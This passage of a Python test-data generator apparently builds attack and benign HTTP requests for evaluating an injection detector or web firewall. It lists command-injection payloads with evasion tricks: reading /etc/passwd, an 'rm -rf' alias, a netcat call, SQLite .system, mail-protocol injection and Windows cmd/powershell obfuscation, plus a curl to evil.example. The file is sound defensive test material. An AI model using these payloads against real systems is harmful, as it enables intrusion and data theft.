     ["c'a't /etc/pass'w'd", "w\\h\\o\\a\\m\\i", "/???/c?t /???/p?sswd", "ca$@t /et$@c/passwd",
      "cat$IFS$9/etc/passwd", "i$(:)d"]),
    ("rce", "unix-cmd-plain",   # later: Unix command injection (command without evasion)
     [";ls", "|whoami", "$(whoami)", ";ps aux", "&&env", "||netstat -an"],
     [";\\ls", "| whoami", "$(who'am'i)", ";p's' aux", "&&/usr/bin/env", "||netstat${IFS}-an"]),
    ("rce", "unix-cmd-evasion",   # later: Unix command injection evasion attempt
     [";c\\at /etc/hosts", ";cat$u /etc/hosts", "|who''ami", ";/bin/ca? /etc/hosts", "$(i\"\"d)",
      ";{cat,/etc/hosts}"],
     ["\nc\\at /etc/hosts", ";cat${u} /etc/hosts", "|who''a''mi", ";/b?n/ca? /etc/hosts", "$(i\"\"\\d)",
      ";{c\\at,/etc/hosts}"]),
    ("rce", "unix-alias",   # later: Unix shell alias invocation
     [";alias ls=id", "|alias", ";unalias -a", "&&alias cd='rm -rf'", "$(alias)", ";alias -p"],
     [";a\\lias ls=id", "| alias", ";un''alias -a", "&&alias  cd='rm -rf'", "$(al\"\"ias)", "\nalias -p"]),
    ("rce", "unix-history",   # later: Unix shell history invocation
     [";!!", ";!-1", "|!-2", "$(!-1)", ";history", ";fc -s"],
     ["; !!", ";!-1:0", "| !-2", "$( !-1 )", ";hist''ory", ";f\\c -s"]),
    ("rce", "unix-short-cmd",   # later: Unix command injection with pipes / 2-3 letter commands
     ["|sh", ";w", "|nc 10.0.0.1 80", ";ps", "|ssh x@10.0.0.1", ";su"],
     ["|s\\h", ";'w'", "|n''c 10.0.0.1 80", ";p\"s\"", "|\\ssh x@10.0.0.1", ";s$@u"]),
    ("rce", "sqlite-dot-command",   # later: SQLite system command execution
     [".system id", ".shell id", ".system cat /etc/passwd", ".shell whoami", ".system ls -la", ".shell uname -a"],
     ["  .system id", "\n.shell id", ".system  cat /etc/passwd", ".shell\twhoami", ".sys ls -la",
      ".shell \"uname\" -a"]),
    ("rce", "mail-protocol-cmd",   # later: SMTP / IMAP / POP3 command execution
     ["\r\nMAIL FROM:<a@evil.example>", "\r\nRCPT TO:<b@evil.example>", "\r\nDATA\r\n", "\r\na1 SELECT INBOX",
      "\r\na1 FETCH 1:* BODY[]", "\r\nRETR 1"],
     ["\nMAIL FROM:<a@evil.example>", "\r\nrcpt to:<b@evil.example>", "%0d%0aDATA%0d%0a", "\r\nA1 select INBOX",
      "\r\na1\tFETCH 1:* BODY[]", "\r\nretr 1"]),
    ("rce", "windows-cmd-evasion",   # later: Windows command injection (cmd, powershell with evasions)
     ["cmd /c whoami", "cmd.exe /k dir", "powershell -c whoami", "%COMSPEC% /c dir", "pwsh -nop -c whoami",
      "cmd /c type c:\\windows\\win.ini"],
     ["c^m^d /c whoami", "CMD.EXE /k dir", "p^owershell -c whoami", "%COMSPEC% /c d\"\"ir",
      "\"pwsh\" -nop -c whoami", "cmd,/c type c:\\windows\\win.ini"]),
    ("rce", "unix-shell-in-headers",   # later: Unix shell code found in REQUEST_HEADERS
     ["/bin/zsh", "/usr/bin/wget", "/usr/bin/curl", "/bin/nc.traditional", "/usr/local/bin/python", "/sbin/ifconfig"],
     ["/bin//zsh", "/usr/bin/w?et", "/usr/b''in/curl", "/bin/n\\c.traditional", "/usr/local/bin/../bin/python",
      "/sbin/./ifconfig"]),
    ("rce", "unix-abs-path-wildcard",   # later: Direct Unix command execution (absolute paths, wildcards)
     ["/bin/cat /etc/hosts", "/usr/bin/id", "/bin/ls -la /", "/usr/bin/whoami", "/bin/uname -a",
      "/usr/bin/curl http://evil.example"],
     ["/bin/c?t /etc/hosts", "/usr/bin/i*", "/b*/ls -la /", "/usr/bin/who[a]mi", "/bin/un?me -a",
      "/usr/bin/cur? http://evil.example"]),
]

TITLES: list[Title] = PHP + XSS + RCE
LATIN1_SUBS = {"xss-usascii-malformed"}   # percent-encoded as single Latin-1 bytes

# The twelve slots of a title (rotated per title): five main places twice, JSON once more, place 6 once.
SLOTS = ["query", "form", "json", "path", "header", "other", "path", "header", "json", "query", "form", "json"]

# --- what a browser sends ------------------------------------------------------------------------------------

BROWSERS: list[tuple[str, str, str]] = [   # User-Agent, sec-ch-ua brand list ("" when the browser sends none), platform
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
     "Safari/537.36", "\"Not/A)Brand\";v=\"8\", \"Chromium\";v=\"126\", \"Google Chrome\";v=\"126\"", "\"Windows\""),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/127.0.0.0 "
     "Safari/537.36", "\"Not)A;Brand\";v=\"99\", \"Google Chrome\";v=\"127\", \"Chromium\";v=\"127\"", "\"macOS\""),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
     "Safari/537.36 Edg/126.0.0.0",
     "\"Not/A)Brand\";v=\"8\", \"Chromium\";v=\"126\", \"Microsoft Edge\";v=\"126\"", "\"Windows\""),
    ("Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", "", ""),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:127.0) Gecko/20100101 Firefox/127.0", "", ""),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
     "Safari/605.1.15", "", ""),
]
LANGUAGES = ["en-US,en;q=0.9", "en-GB,en-US;q=0.9,en;q=0.8", "de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7",
             "fr-FR,fr;q=0.9,en;q=0.8", "en-US,en;q=0.5", "es-ES,es;q=0.9,en;q=0.8"]
CONSENT = ["cookie_consent=accepted", "cookie_consent=necessary", "cc_cookie=necessary.analytics",
           "CookieConsent=true", "consent_v2=all"]
PAGES = ["/users", "/users?tab=active", "/dashboard", "/team/members", "/directory", "/settings/profile"]
ADMIN_PAGES = ["/admin/users", "/admin/users/search", "/admin/audit", "/admin"]
ACCEPT_JSON = "application/json, text/plain, */*"
ACCEPT_HTML = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"
ACCEPT_ENCODING = "gzip, deflate, br, zstd"
SLACK_UA = "Slackbot 1.0 (+https://api.slack.com/robots)"
SLACK_LEADS = ["lookup user ", "ticket title: ", "hey bot, ", "search ", "can you find ", "create ticket: ",
               "note for later: "]
JSON_FIELDS = ["name", "email", "bio", "title", "department", "location", "nickname"]
SETTINGS_FIELDS = ["display_name", "status_text", "signature", "location", "pronouns"]
COOKIE_NAMES = ["last_search", "prefs", "theme", "recent_user", "draft_title"]
PATH_CHARS_RAW = set("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-._~!$&'()*+,;=:@[]|^")
COOKIE_CHARS_RAW = set("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-._~!$&'()*+/:<=>?@[]^`{|}")


def path_encode(value: str, encoding: str = "utf-8") -> str:
    """One path segment as a browser sends it: `/`, `?`, `#`, `%`, space, quotes, angle brackets, backslash,
    braces, controls and non-ASCII percent-encoded, the rest as typed."""
    return "".join(ch if ch in PATH_CHARS_RAW else urllib.parse.quote(ch, safe="", encoding=encoding) for ch in value)


def cookie_encode(value: str, encoding: str = "utf-8") -> str:
    """A cookie value as an application stores it: `;`, `,`, `%`, quotes, backslash, whitespace, controls and
    non-ASCII percent-encoded."""
    return "".join(ch if ch in COOKIE_CHARS_RAW else urllib.parse.quote(ch, safe="", encoding=encoding)
                   for ch in value)


def form_encode(pairs: list[tuple[str, str]], encoding: str = "utf-8") -> str:
    """application/x-www-form-urlencoded as a browser writes it (space as +)."""
    return "&".join(f"{urllib.parse.quote_plus(k, safe='*')}={urllib.parse.quote_plus(v, safe='*', encoding=encoding)}"
                    for k, v in pairs)


def header_safe(value: str) -> bool:
    """Fit to stand as a whole header value: printable ASCII and tabs only."""
    return all(ch == "\t" or 0x20 <= ord(ch) < 0x7f for ch in value)


class Traffic:
    """Requests as browsers and Slack send them, from one seeded random source."""

    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)
        self.slack_n = 0

    def token(self, nbytes: int = 24) -> str:
        return base64.urlsafe_b64encode(self.rng.randbytes(nbytes)).decode().rstrip("=")

    def hexs(self, n: int) -> str:
        return "".join(self.rng.choice("0123456789abcdef") for _ in range(n))

    def sid(self, prefix: str, n: int = 10) -> str:
        return prefix + "".join(self.rng.choice("ABCDEFGHJKLMNPQRSTUVWXYZ0123456789") for _ in range(n))

    def cookie(self) -> str:
        return f"session={self.token()}; {self.rng.choice(CONSENT)}"

    def browser(self, mode: str, referer_path: str) -> dict[str, str]:
        """The headers of a browser request: mode "fetch" (the single-page app calling the API) or "navigate"
        (a form submitted in the admin panel)."""
        ua, brands, platform = self.rng.choice(BROWSERS)
        h: dict[str, str] = {}
        if brands:
            h.update({"sec-ch-ua": brands, "sec-ch-ua-mobile": "?0", "sec-ch-ua-platform": platform})
        h["User-Agent"] = ua
        if mode == "navigate":
            h.update({"Accept": ACCEPT_HTML, "Upgrade-Insecure-Requests": "1", "Sec-Fetch-Site": "same-origin",
                      "Sec-Fetch-Mode": "navigate", "Sec-Fetch-User": "?1", "Sec-Fetch-Dest": "document"})
        else:
            h.update({"Accept": ACCEPT_JSON, "Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "cors",
                      "Sec-Fetch-Dest": "empty"})
        h.update({"Accept-Encoding": ACCEPT_ENCODING, "Accept-Language": self.rng.choice(LANGUAGES),
                  "Referer": "https://app.example.com" + referer_path, "Cookie": self.cookie()})
        return h

    def query(self, value: str, encoding: str = "utf-8") -> dict[str, Any]:
        params = [("q", value), ("page", str(self.rng.randint(1, 9))),
                  ("per_page", self.rng.choice(["20", "50", "100"]))]
        self.rng.shuffle(params)
        return {"method": "GET", "uri": "/api/users?" + form_encode(params, encoding), "body": "",
                "headers": self.browser("fetch", self.rng.choice(PAGES))}

    def admin_search(self, value: str, encoding: str = "utf-8") -> dict[str, Any]:
        h = self.browser("navigate", self.rng.choice(ADMIN_PAGES))
        h.update({"Content-Type": "application/x-www-form-urlencoded", "Origin": "https://app.example.com",
                  "Cache-Control": "max-age=0"})
        return {"method": "POST", "uri": "/admin/users/search",
                "body": form_encode([("csrf_token", self.token(32)), ("q", value)], encoding), "headers": h}

    def user_json(self, field: str, value: str, uri: str = "/api/users", method: str = "POST") -> dict[str, Any]:
        first, last = self.rng.choice(NAMES)
        doc: dict[str, Any] = {"name": f"{first} {last}", "email": f"{first.lower()}.{last.lower()}@example.com",
                               "title": self.rng.choice(JOB_TITLES), "department": self.rng.choice(DEPARTMENTS)}
        if method == "PATCH":
            doc = {k: doc[k] for k in self.rng.sample(sorted(doc), 2)}
        doc[field] = value
        h = self.browser("fetch", self.rng.choice(PAGES))
        h.update({"Content-Type": "application/json", "Origin": "https://app.example.com"})
        return {"method": method, "uri": uri, "body": json.dumps(doc, ensure_ascii=False), "headers": h}

    def settings_form(self, field: str, value: str, encoding: str = "utf-8") -> dict[str, Any]:
        fields = [("csrf_token", self.token(32)), ("timezone", self.rng.choice(TIMEZONES)),
                  ("locale", self.rng.choice(["en-US", "en-GB", "de-DE", "fr-FR"])), (field, value)]
        h = self.browser("navigate", "/me/settings")
        h.update({"Content-Type": "application/x-www-form-urlencoded", "Origin": "https://app.example.com",
                  "Cache-Control": "max-age=0"})
        return {"method": "POST", "uri": "/me/settings", "body": form_encode(fields, encoding), "headers": h}

    def slack_event(self, text: str) -> dict[str, Any]:
        self.slack_n += 1
        n = self.slack_n
        ts = f"{EPOCH + n * 37}.{self.rng.randint(100000, 999999)}"
        kind = self.rng.choice(["message", "message", "app_mention"])
        if kind == "app_mention":
            text = "<@U07BOTUSER1> " + text
        event = {"type": kind, "user": self.sid("U"), "text": text, "ts": ts, "channel": self.sid("C"),
                 "event_ts": ts}
        body = {"token": self.token(18), "team_id": "T04ACME7Q2L", "api_app_id": "A06DIRBOT9X", "event": event,
                "type": "event_callback", "event_id": self.sid("Ev", 12), "event_time": EPOCH + n * 37}
        headers = {"User-Agent": SLACK_UA, "Accept": "*/*", "Accept-Encoding": "gzip,deflate",
                   "Content-Type": "application/json", "X-Slack-Request-Timestamp": str(EPOCH + n * 37),
                   "X-Slack-Signature": "v0=" + self.hexs(64)}
        return {"method": "POST", "uri": "/slack/events", "body": json.dumps(body, ensure_ascii=False),
                "headers": headers}

    def path(self, segment: str, encoding: str = "utf-8") -> dict[str, Any]:
        prefix = "/api/users/" if self.rng.random() < 0.7 else "/api/"
        return {"method": "GET", "uri": prefix + path_encode(segment, encoding), "body": "",
                "headers": self.browser("fetch", self.rng.choice(PAGES))}

    def header(self, value: str, where: str, encoding: str = "utf-8") -> tuple[dict[str, Any], str]:
        """A GET of the user list with `value` as the whole User-Agent, the Referer, or a cookie value."""
        req = self.query(self.rng.choice(["", "ann", "lee", "smith"]))
        h = req["headers"]
        if where != "cookie" and not header_safe(value):
            where = "cookie"
        if where == "User-Agent":
            h.pop("sec-ch-ua", None)
            h.pop("sec-ch-ua-mobile", None)
            h.pop("sec-ch-ua-platform", None)
            h["User-Agent"] = value
            return req, "header:User-Agent"
        if where == "Referer":
            h["Referer"] = value
            return req, "header:Referer"
        h["Cookie"] += f"; {self.rng.choice(COOKIE_NAMES)}={cookie_encode(value, encoding)}"
        return req, "cookie"


# --- attacks -------------------------------------------------------------------------------------------------

def _attack_request(t: Traffic, slot: str, payload: str, encoding: str, json_turn: int,
                    other_turn: int) -> tuple[dict[str, Any], str]:
    if slot == "query":
        return t.query(payload, encoding), "query"
    if slot == "form":
        return t.admin_search(payload, encoding), "form"
    if slot == "json":
        if json_turn % 2:
            return t.slack_event(t.rng.choice(SLACK_LEADS) + payload), "json"
        return t.user_json(t.rng.choice(JSON_FIELDS), payload), "json"
    if slot == "path":
        return t.path(payload, encoding), "path"
    if slot == "header":
        where = t.rng.choices(["User-Agent", "Referer", "cookie"], weights=[6, 2, 2])[0]
        return t.header(payload, where, encoding)
    if other_turn % 2:
        return t.settings_form(t.rng.choice(SETTINGS_FIELDS), payload, encoding), "form"
    return t.user_json(t.rng.choice(JSON_FIELDS), payload, "/api/users/42", "PATCH"), "json"


def attacks() -> Iterator[dict[str, Any]]:
    t = Traffic(74_001)
    n = json_turn = other_turn = 0
    for ti, (category, sub, atomic, obfuscated) in enumerate(TITLES):
        assert len(atomic) == len(obfuscated) == 6, sub
        encoding = "latin-1" if sub in LATIN1_SUBS else "utf-8"
        for i, payload in enumerate(atomic + obfuscated):
            slot = SLOTS[(i + ti) % len(SLOTS)]
            json_turn += slot == "json"
            other_turn += slot == "other"
            req, placement = _attack_request(t, slot, payload, encoding, json_turn, other_turn)
            n += 1
            yield {**req, "id": f"{NAME}-{category}-{n:04d}", "category": category, "sub": sub,
                   "placement": placement, "payload": payload}


# --- benign --------------------------------------------------------------------------------------------------

NAMES = [("Ann", "Lee"), ("Jose", "Garcia"), ("Priya", "Natarajan"), ("Liam", "O'Brien"), ("Chen", "Wei"),
         ("Fatima", "Haddad"), ("Lukas", "Schmidt"), ("Amelie", "Dubois"), ("Kofi", "Mensah"), ("Sara", "Lindqvist"),
         ("Mateo", "Rossi"), ("Yuki", "Tanaka"), ("Olivia", "Smith"), ("Noah", "Cohen"), ("Zoe", "Papadopoulos")]
JOB_TITLES = ["Software Engineer", "Product Manager", "Support Lead", "Data Analyst", "Designer", "SRE",
              "Account Executive", "Recruiter", "Office Manager", "Security Engineer"]
DEPARTMENTS = ["Engineering", "Sales", "Support", "Finance", "People", "Marketing", "IT", "Legal", "R&D"]
TIMEZONES = ["Europe/Berlin", "America/New_York", "Asia/Tokyo", "Europe/London", "America/Los_Angeles",
             "Australia/Sydney"]

# What people type into chat and their profiles, with the words the attacks use, innocently.
TEXTS = [
    "can someone review my PR? it touches the login script and the onboarding docs",
    "php 8.3 upgrade is scheduled for Thursday, please test your plugins on staging first",
    "the <script> tag in our email template got stripped by the sanitizer, which is exactly what we want",
    "cat pictures go in #random please, not in #eng",
    "ping me when the deploy finishes, I'll run the smoke tests",
    "alert: disk usage on db-2 is at 85%, cleaning up old logs now",
    "the onload handler fires twice on Safari, still investigating",
    "for each region, if the quota is exceeded we send one email to the owner",
    "I ran `ls -la` in the container and the config file really is missing",
    "system maintenance window: Saturday 02:00-04:00 UTC",
    "window cleaners are coming at 3pm, please clear the desks by the windows",
    "document the new import flow in Confluence before Friday",
    "our style guide says sentence case for button labels",
    "link to the base template is in the design channel",
    "the object storage bill went up 12% this month",
    "embed the Loom video in the onboarding page please",
    "meta question: can we move standup to 9:45?",
    "exec team offsite is next week, expect slow replies",
    "I'll eval both vendors and report back on Monday",
    "the shell script for nightly backups runs at midnight",
    "the PowerShell script to map network drives is on the IT wiki",
    "net user requests go through the IT helpdesk form now",
    "type your answer in the thread, not the channel",
    "the whoami page in the admin shows your role and team",
    "the cookie banner now remembers consent for 12 months",
    "location is optional in the profile, name is required",
    "the value of the contract is $12,000 per year",
    "set the timeout to 30 seconds for the export job",
    "who has the key to the server room?",
    "lunch & learn on Thursday: intro to bash for non-engineers",
    "R&D budget review moved to 2pm",
    "Q3 numbers: revenue +8%, churn -1.5%",
    "the wget step in the Dockerfile should pin a checksum",
    "use curl -I to check the headers, not the browser",
    "python 3.12 is the default in the new base image",
    "perl is still used by the legacy billing job, don't remove it yet",
    "the cron job calls /usr/local/bin/report.sh every hour",
    "logs live in /var/log/app, rotated daily",
    "Invoke-WebRequest in PowerShell is slower than curl for big files",
    "the for loop in the migration skips archived users, that's intended",
    "if the build is red, don't merge, even if it's a docs change",
    "does anyone know a good Angular course? we use {{ }} templates everywhere",
    "the prompt in the CLI shows the git branch now",
    "our alert rules fire on p95 latency above 800ms",
    "the new onboarding page has a video embed and a short quiz",
    "remember to select the right project in the dropdown",
    "the iframe preview of reports works in Chrome, not in Firefox yet",
    "the import of contacts from CSV handles UTF-8 and Latin-1",
    "welcome to the team, Liam O'Brien! say hi in #general",
    "Fatima's talk on \"JavaScript: the good parts\" is tomorrow",
    "Jose & Priya are out on Friday",
    "the wiki page \"How to: reset your 2FA\" is updated",
    "reminder: timesheets are due by 5pm",
    "the template uses {% if user %} blocks, Jinja not Angular",
    "the table background colour is too dark in the PDF export",
    "the marquee on the old intranet is finally gone",
    "our SQLite test DB lives in tests/fixtures, run .tables to see them",
    "IMAP sync for the shared inbox is fixed",
    "the SMTP relay changed to port 587 with STARTTLS",
    "the POP3 account is deprecated, use the IMAP one",
    "the fc in the tables stands for forecast",
    "history of the project is in the README",
    "the alias for the support inbox is help@example.com",
    "I set up an alias so `k` runs kubectl",
    "the ps output shows two workers stuck, restarting",
    "w3 validator complains about the meta tags on the landing page",
    "the base URL for the API is https://app.example.com/api",
    "upload the signed contract as PDF, not .docx",
    "the .env file is gitignored, ask for the values in 1Password",
    "web.config is only for the old IIS box",
    "the htaccess rules on the marketing site redirect http to https",
    "expect a short outage during the DNS switch",
    "the data team uses glob patterns like reports/*.csv",
    "the zip export of all invoices is ready in the portal",
    "the phar file for the CLI tool is in the release assets",
    "input validation errors now show next to the field",
    "the filter on the users page resets when you change tabs",
    "temp files are cleaned up after 24h",
    "memory usage on the worker is stable at 1.2 GB",
    "the constructor of the User class validates the email",
    "the prototype for the new dashboard is in Figma",
    "use toString() on the id before comparing",
    "the eval set for the ranking model is frozen",
    "the onclick tracking is handled by the analytics script",
    "the style attribute is overridden by the theme",
    "the src folder is getting big, let's split it",
    "href links in the emails now carry utm tags",
    "the applet of the old booking tool is retired",
    "the object model is documented in the architecture doc",
    "the embed code for the status widget is on the status page",
    "the vmware cluster goes into maintenance mode on Sunday",
    "the link checker found 3 broken links in the docs",
    "the new CSS @import of the font is blocking render",
    "the charset of the exported CSV is UTF-8 with BOM",
    "set the http-equiv header on the static site? no, use a real header",
    "the window.location redirect in the SPA is replaced by the router",
    "document.title is updated when the tab changes",
    "jsfuck looks funny but we don't need it in the codebase",
    "the ticket says \"cannot open file.php in editor\", probably an IDE setting",
    "the Windows laptops get the new VPN client via Intune",
    "cmd + shift + 4 takes a partial screenshot on a Mac",
    "the whoami command on Windows shows your domain account",
    "ipconfig /flushdns fixed it for me",
    "the FOR loop in the Excel macro is slow, use a pivot table",
    "if exists, we update; otherwise we create the record",
    "the tasklist shows Teams using 2 GB, restart it",
    "netstat shows the port is already in use by another service",
    "the certutil step verifies the installer hash",
    "shellshock was 2014, our bash is patched",
    "the uname of the build agent is Linux x86_64",
    "/etc/hosts on your laptop may override the staging domain",
    "history -c doesn't clear the company chat, sorry",
    "ssh into the bastion first, then to the db host",
    "su is disabled on the prod boxes, use sudo",
    "the nc in the name stands for North Carolina office",
    "the id column is a UUID now",
    "env vars for the worker are in the helm chart",
]

BIOS = [
    "Backend engineer. PHP, Go and a bit of shell scripting.",
    "Frontend developer who loves JavaScript, CSS and accessible HTML.",
    "Support lead. Ask me about the ticket system & escalations.",
    "Data analyst: SQL, Python, dashboards. Coffee enthusiast.",
    "SRE on the platform team. On call every other week.",
    "Designer. I care about style guides, spacing and good links.",
    "Security engineer. I review PRs for XSS, injection and secrets.",
    "Office manager - keys, desks, windows and snacks.",
    "Recruiter for engineering roles in Berlin and Lisbon.",
    "Product manager for the import/export and reporting features.",
    "IT admin: laptops, VPN, Windows and Mac fleet.",
    "Finance: invoices, budgets, the occasional alert about spend.",
    "Writes docs. Keeper of the base templates and the style guide.",
    "Mobile developer (Swift, Kotlin). Cats > dogs.",
    "Legal counsel. Contracts, DPAs and NDAs.",
]

SEARCHES = [
    "ann lee", "o'brien", "smith & jones", "garcia", "natarajan", "cat", "script writer", "php developer",
    "javascript", "alert team", "system admin", "c++", "c#", ".net", "r&d", "ops/infra", "import export", "style",
    "base camp", "link", "document control", "window fitter", "embed", "meta", "exec assistant", "python", "bash",
    "node.js", "perl", "ruby on rails", "sql", "1+1", "50%", "q3 report", "mcdonald", "d'angelo", "müller",
    "zoë", "françois", "józef", "søren", "renée", "李", "田中", "محمد", "kofi mensah", "sara lindqvist",
    "security engineer", "sre", "on call", "berlin", "new york", "tokyo", "support lead", "design", "marketing",
    "legal", "finance", "people team", "recruiter", "data analyst", "product manager", "designer", "intern",
    "contractor", "part-time", "remote", "@example.com", "ann.lee@example.com", "+49 30 1234567", "(555) 010-0199",
    "team: platform", "role:admin", "status:active", "joined:2024", "manager=chen", "a-z", "#general",
    "first name last name", "who is on call", "object storage", "applet", "frame", "for loop", "if statement",
    "powershell", "cmd", "windows 11", "linux", "mac", "shell", "terminal", "ping", "net", "type", "dir",
    "whoami", "id", "env", "history", "alias", "cat lovers", "sh", "su", "ls", "w", "ps", "nc", "fc",
    "dr. who", "rock & roll", "5 < 10", "x > y", "\"exact phrase\"", "tom's diner", "semi;colon",
    "question?", "hash #tag", "under_score", "dash-name", "slash/name", "back\\slash", "first.last",
    "emoji 🎉", "café", "naïve", "jalapeño", "smörgåsbord", "ﬁle", "data", "input", "filter", "memory",
    "temp", "zip", "glob", "expect", "phar", "style guide", "link checker", "base url", "meta tags",
]

PATH_SEGMENTS = [
    "42", "7", "1001", "me", "ann.lee", "jose.garcia", "liam.obrien", "o'brien", "priya_n", "chen-wei",
    "fatima.haddad", "lukas.schmidt", "amelie.dubois", "kofi.mensah", "sara.lindqvist", "mateo.rossi",
    "yuki.tanaka", "olivia.smith", "noah.cohen", "zoe.p", "ann.lee@example.com", "jose@example.com",
    "c8f2a1e0-4d3b-4b7e-9a61-2f0c5d8e7b14", "3fa85f64-5717-4562-b3fc-2c963f66afa6", "josé", "müller", "søren",
    "françois", "d'angelo", "mcdonald", "user 42", "teams", "projects", "reports", "search", "health", "version",
    "departments", "roles", "invitations", "exports", "imports", "audit", "settings", "avatars", "status",
    "webhooks", "integrations", "calendar", "holidays", "locations", "offices", "titles", "skills",
    "script-writers", "alerts", "documents", "windows", "styles", "links", "objects", "embeds", "meta",
    "system", "shell", "bash-users", "php-guild", "java-guild", "python-guild", "sql-club", "cat-lovers",
    "r&d", "c++", "c#", "ops+infra", "q3-2024", "2024-07-01", "report.pdf", "avatar.png", "export.csv",
    "data.json", "notes.txt", "index", "latest", "all", "active", "archived", "pending", "~ann", "ann+test",
    "50%off", "what?", "tag#1", "a b", "semi;colon", "eq=sign", "at@home", "dollar$", "(parens)", "[brackets]",
]

BENIGN_UAS = [
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.6478.122 Mobile "
    "Safari/537.36",
    "Mozilla/5.0 (iPad; CPU OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 "
    "Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36 OPR/111.0.0.0",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36 Vivaldi/6.8",
    "Mozilla/5.0 (Linux; Android 13; SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/25.0 "
    "Chrome/121.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36 Edg/126.0.0.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Slack/4.39.90 "
    "Chrome/126.0.6478.127 Electron/31.2.1 Safari/537.36 Sonic Slack_SSB/4.39.90",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Microsoft Teams/24165.1410.2974 "
    "Chrome/120.0.6099.291 Electron/28.2.5 Safari/537.36",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "curl/8.8.0",
    "python-requests/2.32.3",
    "PostmanRuntime/7.39.0",
    "okhttp/4.12.0",
    "Dart/3.4 (dart:io)",
    "axios/1.7.2",
    "Go-http-client/2.0",
    "insomnia/9.3.2",
    "HTTPie/3.2.2",
    "Acme Directory/3.14.1 (iPhone; iOS 17.5; Scale/3.00)",
    "AcmeDirectory-Android/3.14.1 (Linux; U; Android 14; Pixel 7 Build/AP2A.240705.005)",
    "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko",
    "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36",
    "Wget/1.21.4",
    "Java/17.0.11",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "Apache-HttpClient/4.5.14 (Java/17.0.10)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/126.0.0.0 "
    "Safari/537.36",
    "Zapier",
]
BENIGN_REFERERS = [
    "https://app.example.com/users?q=ann+lee&page=2",
    "https://app.example.com/directory?team=platform&sort=name",
    "https://www.google.com/",
    "https://app.example.com/search?q=script+writer",
    "https://app.example.com/admin/users?filter=status%3Aactive",
    "https://mail.example.com/inbox/thread/18f2a9c",
    "https://example.slack.com/archives/C0123456789/p1719000000000100",
    "https://app.example.com/docs/how-to/import-export#csv",
    "https://confluence.example.com/display/ENG/Onboarding+%26+Setup",
    "https://app.example.com/reports/q3?range=2024-07-01..2024-09-30",
    "https://github.com/acme/directory/pull/1234/files",
    "https://app.example.com/users/42/edit",
    "https://app.example.com/settings/profile?tab=style",
    "https://duckduckgo.com/",
    "https://app.example.com/team/members?role=admin&page=3",
    "https://www.bing.com/search?q=acme+directory+login",
    "https://app.example.com/?utm_source=newsletter&utm_medium=email&utm_campaign=july",
    "https://app.example.com/documents/windows-setup-guide",
    "https://app.example.com/search?q=o%27brien",
    "https://app.example.com/search?q=c%23+developer",
]
BENIGN_COOKIES = [
    "dark", "light", "compact", "en-US", "de-DE", "tz%3DEurope%2FBerlin", "sidebar%3Dcollapsed", "ann%20lee",
    "o'brien", "smith%20%26%20jones", "page_size%3D50", "last_tab%3Dmembers", "1", "0", "true", "grid", "list",
    "q3%20report", "script%20writer", "team%3Aplatform", "m%C3%BCller", "v2", "sort%3Dname%2Casc",
    "cols%3Dname%2Cemail%2Ctitle", "welcome-dismissed", "font%3Dlarge",
]


def benign() -> Iterator[dict[str, Any]]:
    t = Traffic(74_002)
    n = 0

    def rec(req: dict[str, Any], kind: str, placement: str) -> dict[str, Any]:
        nonlocal n
        n += 1
        return {**req, "id": f"{NAME}-{kind}-{n:04d}", "category": "benign", "placement": placement, "sub": kind}

    for text in TEXTS:   # chat (Slack escapes &, < and > in message text) and the same words in a profile
        yield rec(t.slack_event(slack_escape(text)), "slack", "json")
        yield rec(t.user_json(t.rng.choice(["bio", "bio", "title", "department"]), text), "bio", "json")
    for bio in BIOS:
        yield rec(t.user_json("bio", bio), "bio", "json")
        yield rec(t.user_json("bio", bio, "/api/users/42", "PATCH"), "settings", "json")
    for i, term in enumerate(SEARCHES):
